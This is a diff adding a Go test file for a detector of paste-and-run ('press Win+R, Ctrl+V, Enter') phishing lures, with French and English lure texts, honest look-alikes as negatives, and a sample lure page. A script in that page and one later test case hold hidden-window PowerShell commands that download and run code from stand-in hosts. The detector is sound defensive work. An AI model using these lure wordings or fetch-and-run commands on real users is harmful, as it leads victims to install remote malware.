@@ -1,0 +1,67 @@
+package pasterun
+
+import "testing"
+
+func TestInstruction(t *testing.T) {
+	for _, c := range []struct {
+		text string
+		want bool
+	}{
+		// The lures' steps (the write-ups in the package comment).
+		{"Pour vérifier que vous êtes humain : 1. Appuyez sur Windows + R 2. Appuyez sur Ctrl + V 3. Appuyez sur Entrée", true},
+		{"Press and hold the Windows Key + R, then press CTRL+V, then press Enter to complete verification.", true},
+		{"Faites un clic droit sur Démarrer, ouvrez Windows PowerShell (admin), collez avec Ctrl+V puis validez avec Entrée.", true},
+		{"Sur Mac : ouvrez le Terminal (Cmd + Espace), collez la commande avec Cmd + V et appuyez sur Retour.", true},
+		{"Open the Run dialog (⊞ Win+R), paste the fix and hit Enter.", true},
+		// Honest uses of the same words.
+		{"Appuyez sur Windows + R, tapez \\\\srv-fichiers\\partage puis appuyez sur Entrée.", false},
+		{"Touche Windows + R, tapez mstsc et validez : le bureau à distance s'ouvre.", false},
+		{"Open a command prompt (Windows + R, type cmd, press Enter), run ipconfig /all, then copy the output and paste it into your reply.", false},
+		{"Ouvrez l'invite de commandes, tapez ipconfig /all et Entrée, puis copiez le résultat et collez-le dans votre réponse à ce message.", false},
+		{"Use navigator.clipboard.writeText(text) in the click handler; Ctrl+V in a textarea then shows the copied text.", false},
+		{"Copiez le code promo NOEL25 et collez-le dans votre panier.", false},
+		{"Le terminal de paiement est en panne, merci de coller l'étiquette sur le colis et de valider.", false},
+	} {
+		got := Instruction(c.text)
+		if (got != "") != c.want {
+			t.Errorf("Instruction(%q) = %q, want found=%v", c.text, got, c.want)
+		}
+	}
+}
+
+func TestPageWritesClipboardAndNamesTheBox(t *testing.T) {
+	page := []byte(`<html><body><div>Le document n'a pas pu s'afficher.</div>
+<button onclick="fix()">Comment corriger</button><ol><li>Appuyez sur <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd></li>
+<li>Collez (<kbd>Ctrl</kbd>+<kbd>V</kbd>)</li><li>Appuyez sur Entrée</li></ol>
+<script>function fix(){navigator.clipboard.writeText("powershell -w h -c iwr http://x.example/a|iex")}</script></body></html>`)
+	lower := []byte(string(page))
+	for i, c := range lower {
+		if 'A' <= c && c <= 'Z' {
+			lower[i] = c + 32
+		}
+	}
+	if !WritesClipboard(lower) {
+		t.Error("WritesClipboard: false")
+	}
+	text := PageText(page)
+	if Instruction(text) == "" || Mentions(text) == "" {
+		t.Errorf("Instruction %q, Mentions %q in %q", Instruction(text), Mentions(text), text)
+	}
+	promo := []byte(`<button onclick="navigator.clipboard.writeText('NOEL25')">Copier le code</button> puis collez-le dans votre panier.`)
+	if Mentions(PageText(promo)) != "" {
+		t.Errorf("a promo code's copy button names a box: %q", Mentions(PageText(promo)))
+	}
+}
+
+// What the message shows to copy is pasted knowingly, unless it fetches
+// and runs code: an IT desk's path, and its phisher's twin.
+func TestShownCommand(t *testing.T) {
+	desk := "Copiez le chemin ci-dessous, appuyez sur Windows + R, collez-le et appuyez sur Entrée :\n\\\\srv-fichiers\\commun"
+	if got := Instruction(desk); got != "" {
+		t.Errorf("a path shown to paste: %q", got)
+	}
+	twin := "Copiez la commande ci-dessous, appuyez sur Windows + R, collez-la et appuyez sur Entrée :\npowershell -w h -c \"iwr https://maj-poste.example/k.ps1 | iex\""
+	if got := Instruction(twin); got == "" {
+		t.Error("a remote command shown to paste: not found")
+	}
+}
